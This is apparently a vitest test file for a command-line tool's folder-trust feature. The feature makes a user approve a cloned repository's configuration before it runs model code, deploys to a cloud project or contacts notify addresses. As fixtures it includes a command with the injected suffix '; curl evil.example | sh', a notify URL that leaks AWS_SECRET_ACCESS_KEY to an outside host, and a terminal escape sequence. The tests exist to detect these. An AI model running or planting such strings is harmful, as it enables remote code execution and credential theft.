import {
  chmod,
  chown,
  mkdir,
  mkdtemp,
  readdir,
  readFile,
  rm,
  stat,
  symlink,
  writeFile,
} from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { requireTrust, trustOwnChange } from "../../../../src/library/trust/require-trust.ts";
import { distrustFolder, trustFolder } from "../../../../src/library/trust/trust-folder.ts";
import type { TrustAnswer, TrustSubject } from "../../../../src/library/trust/subject.ts";
import type { GlobalFlags } from "../../../../src/cli/shell/context.ts";
import { fakeContext, fakeIo } from "../../cli/support.ts";
import { shellQuote } from "../../../../src/core/shell-quote.ts";
import { isWindows, modeHere } from "../../../support/system.ts";

let work: string;
let folder: string;
let kept: string;

beforeEach(async () => {
  work = await mkdtemp(join(tmpdir(), "cloud-runner-trust-"));
  folder = join(work, "clone");
  kept = join(work, "state", "cloud-runner", "trusted");
  await mkdir(folder);
});
afterEach(() => rm(work, { recursive: true, force: true }));

const configure = (config: object, name = "cloud-runner.json") =>
  writeFile(join(folder, name), JSON.stringify(config));

const context = (flags: Partial<GlobalFlags> = {}, env: Record<string, string> = {}, at = folder) =>
  fakeContext(fakeIo({ env: { XDG_STATE_HOME: join(work, "state"), ...env } }), flags, at);

const require = (...given: Parameters<typeof context>) => requireTrust(context(...given));

const needed = expect.objectContaining({ code: "trust.needed", exitCode: 2 }) as Error;

const modelAndProject = { model: "./model.ts", target: "gcp", project: "their-project" };

describe("what a stranger's configuration decides", () => {
  it("is shown where nobody can be asked, with the command that trusts it", async () => {
    await configure(modelAndProject);
    await expect(require()).rejects.toMatchObject({
      message: `${join(folder, "cloud-runner.json")} decides what runs or where data goes, and you have not trusted it yet.`,
      details: [
        'model "./model.ts": its code runs on this machine and in the service',
        'target "gcp": where the stack runs',
        'project "their-project": data goes to this project, which pays',
      ],
      commands: [shellQuote(["cloud-runner", "-C", folder, "trust"])],
    });
  });

  it("names what of the environment an address takes along, and no more of the address than its host", async () => {
    const notify = ["https://theirs.example.com/word?a=${AWS_SECRET_ACCESS_KEY}", "ops@example.com"];
    await configure({ target: "gcp", notify });
    await expect(require()).rejects.toMatchObject({
      details: [
        'target "gcp": where the stack runs',
        expect.stringMatching(
          /^notify \["https:\/\/theirs\.example\.com\/… \([0-9a-f]{6}\)","ops@example\.com"\]: these addresses are told of failures, and given \$\{AWS_SECRET_ACCESS_KEY\} of your environment$/,
        ) as string,
      ],
    });
  });

  it("has no control characters on the screen", async () => {
    await configure({ model: "./a\u001b[2J.ts" });
    await expect(require()).rejects.toMatchObject({ details: [expect.not.stringContaining("\u001b")] });
  });

  it.each([
    ["the model", { model: "./other.ts" }],
    ["the project", { project: "another-project" }],
    ["the stack, and so the buckets", { name: "other" }],
    ["the region", { region: "europe-west1" }],
    ["the place of the buckets", { storage: { location: "eu" } }],
    ["what the service may read", { artifacts: ["gs://some-bucket"] }],
    ["who is told of failures", { notify: ["https://theirs.example.com/x"] }],
    ["the network", { service: { vpc: { network: "theirs" } } }],
  ])("is asked about again when it is %s that changes", async (_, change) => {
    await configure(modelAndProject);
    await trustFolder(context());
    await expect(require()).resolves.toBeUndefined();
    await configure({ ...modelAndProject, ...change });
    await expect(require()).rejects.toThrow(needed);
    await configure(modelAndProject);
    await expect(require()).resolves.toBeUndefined();
  });

  it.each([
    ["there is none", undefined],
    ["it holds what can only make a forecast worse", { forecast: { horizon: 3 }, labels: { a: "b" } }],
    ["it holds defaults", { name: "forecast", target: "local", region: "us-central1", storage: {} }],
    ["its lists are empty", { artifacts: [], notify: [] }],
  ])("needs no trust when %s", async (_, config) => {
    if (config !== undefined) await configure(config);
    await expect(require()).resolves.toBeUndefined();
    expect(await readdir(work)).toEqual(["clone"]);
  });

  it("needs no trust when it comes from the caller", async () => {
    await configure(modelAndProject);
    const overrides = { config: { model: "./model.ts" } };
    await expect(requireTrust({ ...context(), overrides })).resolves.toBeUndefined();
  });
});

describe("a folder that is trusted", () => {
  it("asks nothing while its owner edits the model and the defaults", async () => {
    await configure(modelAndProject);
    await trustFolder(context());
    for (let edit = 0; edit < 20; edit += 1) {
      await writeFile(join(folder, "model.ts"), `// ${edit}`);
      await configure({ ...modelAndProject, forecast: { horizon: edit + 1 } });
      await expect(require()).resolves.toBeUndefined();
    }
  });

  it("is remembered for this user alone, and outside of it", async () => {
    await configure(modelAndProject);
    await trustFolder(context());
    expect(await readdir(folder)).toEqual(["cloud-runner.json"]);
    const [file] = await readdir(kept);
    expect((await stat(kept)).mode & 0o777).toBe(modeHere(0o700));
    expect((await stat(join(kept, file!))).mode & 0o777).toBe(modeHere(0o600));
    expect(JSON.parse(await readFile(join(kept, file!), "utf8"))).toMatchObject({ folder });
  });

  it("is no other folder with the same configuration, and the same one under another name", async () => {
    await configure(modelAndProject);
    await trustFolder(context());
    await symlink(folder, join(work, "link"));
    await require({}, {}, join(work, "link"));
    folder = join(work, "another");
    await mkdir(folder);
    await configure(modelAndProject);
    await expect(require()).rejects.toThrow(needed);
  });

  it("is trusted for one configuration, and asked about another that is named", async () => {
    await configure(modelAndProject);
    await configure(modelAndProject, "other.json");
    await trustFolder(context());
    await expect(require({ config: "other.json" })).rejects.toMatchObject({
      commands: [shellQuote(["cloud-runner", "-C", folder, "--config", join(folder, "other.json"), "trust"])],
    });
    await trustFolder(context({ config: "other.json" }));
    await require({ config: "other.json" });
    await expect(require()).resolves.toBeUndefined();
  });

  it("can be forgotten, whatever its configuration says by then", async () => {
    await configure(modelAndProject);
    await trustFolder(context());
    await configure({ model: "./other.ts" });
    await trustFolder(context());
    expect(distrustFolder(context())).toEqual({ folder, forgotten: 2 });
    await expect(require()).rejects.toThrow(needed);
    expect(distrustFolder(context())).toEqual({ folder, forgotten: 0 });
  });

  it("stays trusted when this tool changes the configuration", async () => {
    await configure({ name: "sales" });
    await trustFolder(context());
    await trustOwnChange(context(), () =>
      configure({ name: "sales", target: "gcp", project: "sales-12345678" }),
    );
    await expect(require()).resolves.toBeUndefined();
  });

  it("is not trusted for good by a change of this tool, when it was trusted for one run", async () => {
    await configure(modelAndProject);
    await trustOwnChange(context(), () => configure({ ...modelAndProject, project: "sales-12345678" }));
    await expect(require()).rejects.toThrow(needed);
  });

  it("is asked for by all that a command says, to its end", async () => {
    const end = "; curl evil.example | sh";
    await configure({
      command: ["sh", "-c", `exec gunicorn main:app --bind 0.0.0.0:$PORT --workers 2${end}`],
    });
    await expect(require()).rejects.toMatchObject({ details: [expect.stringContaining(end)] });
  });
});

describe("the answer of a person", () => {
  const answering = (answer: TrustAnswer) =>
    vi.fn<(subject: TrustSubject) => Promise<TrustAnswer>>(async () => answer);
  const asked = (askTrust: ReturnType<typeof answering>) => requireTrust({ ...context(), askTrust });

  it("is remembered when it is a yes", async () => {
    await configure(modelAndProject);
    const ask = answering("keep");
    await asked(ask);
    await asked(ask);
    expect(ask).toHaveBeenCalledOnce();
  });

  it("stops the command when it is a no, and is asked for again", async () => {
    await configure(modelAndProject);
    const ask = answering("no");
    for (let time = 0; time < 2; time += 1)
      await expect(asked(ask)).rejects.toMatchObject({ code: "declined" });
    expect(ask).toHaveBeenCalledTimes(2);
  });

  it("holds for one call of a program", async () => {
    await configure(modelAndProject);
    await asked(answering("once"));
    await expect(require()).rejects.toThrow(needed);
  });
});

describe("CLOUD_RUNNER_TRUST", () => {
  it.each(["1", "true"])("trusts every folder when it is %s, and remembers none", async (value) => {
    await configure(modelAndProject);
    await require({}, { CLOUD_RUNNER_TRUST: value });
    await trustOwnChange(context({}, { CLOUD_RUNNER_TRUST: value }), async () => {});
    await expect(require()).rejects.toThrow(needed);
  });

  it.each(["", "0", "false"])("trusts nothing when it is %j", async (value) => {
    await configure(modelAndProject);
    await expect(require({}, { CLOUD_RUNNER_TRUST: value })).rejects.toThrow(needed);
  });
});

const isRoot = process.geteuid?.() === 0;

describe.skipIf(isWindows)("what another user could have put there (Windows has no modes)", () => {
  const notKept = expect.objectContaining({ code: "trust.not-kept" }) as Error;

  it("is not believed when everybody may write above it", async () => {
    await configure(modelAndProject);
    await trustFolder(context());
    await chmod(join(work, "state"), 0o777);
    await expect(require()).rejects.toThrow(notKept);
  });

  it("is not believed when it is a link", async () => {
    await configure(modelAndProject);
    await trustFolder(context());
    const [file] = await readdir(kept);
    await writeFile(join(work, "file"), "{}");
    await rm(join(kept, file!));
    await symlink(join(work, "file"), join(kept, file!));
    await expect(require()).rejects.toThrow(needed);
  });

  it.skipIf(!isRoot)("is not believed when it is theirs (only root can make it so)", async () => {
    await configure(modelAndProject);
    await trustFolder(context());
    await chown(kept, 12_345, 12_345);
    await expect(require()).rejects.toThrow(notKept);
  });
});
